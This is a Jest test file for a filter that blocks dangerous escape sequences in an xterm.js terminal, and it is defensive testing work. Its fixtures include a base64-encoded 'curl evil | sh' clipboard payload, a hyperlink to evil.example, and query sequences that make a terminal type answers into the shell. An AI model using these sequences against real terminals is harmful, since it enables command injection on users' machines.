import { Terminal } from '@xterm/xterm';
import { filterTerminalEscapes } from './terminal-escape-filter';

/** A real xterm.js terminal (not attached to the DOM: the parser needs no renderer). */
function terminal() {
  const term = new Terminal({ allowProposedApi: true, cols: 80, rows: 5 });
  const answers: string[] = [];
  term.onData((data) => answers.push(data));
  const titles: string[] = [];
  term.onTitleChange((title) => titles.push(title));
  const write = (data: string) => new Promise<void>((resolve) => term.write(data, resolve));
  const line = (y: number) => term.buffer.active.getLine(y)?.translateToString(true) ?? '';
  return { term, answers, titles, write, line };
}

describe('filterTerminalEscapes', () => {
  it('keeps OSC 52 (clipboard) from any handler, an addon loaded earlier included', async () => {
    const { term, write, line } = terminal();
    const clipboard = jest.fn(() => true);
    term.parser.registerOscHandler(52, clipboard);
    filterTerminalEscapes(term);
    await write(`before\x1b]52;c;${btoa('curl evil | sh')}\x07after`);
    expect(clipboard).not.toHaveBeenCalled();
    expect(line(0)).toBe('beforeafter');
    term.dispose();
  });

  it('answers no colour or DECRQSS query, so output cannot type into the shell', async () => {
    const { term, answers, write } = terminal();
    filterTerminalEscapes(term);
    await write('\x1b]11;?\x07\x1b]4;1;?\x1b\\\x1bP$qm\x1b\\\x1bP+q544e\x1b\\');
    expect(answers).toEqual([]);
    term.dispose();
  });

  it('drops titles and hyperlinks but keeps text, colours and the cursor report', async () => {
    const { term, answers, titles, write, line } = terminal();
    filterTerminalEscapes(term);
    await write('\x1b]0;owned\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m\x1b[6n');
    expect(titles).toEqual([]);
    expect(line(0)).toBe('link red');
    expect(answers).toEqual(['\x1b[1;9R']);
    term.dispose();
  });

  it('is what the unfiltered terminal would otherwise do (the tests above can fail)', async () => {
    const { term, answers, titles, write } = terminal();
    await write('\x1b]0;owned\x07\x1b]11;?\x07\x1bP$qm\x1b\\');
    expect(titles).toEqual(['owned']);
    expect(answers.join('')).toContain('$r');
    term.dispose();
  });
});
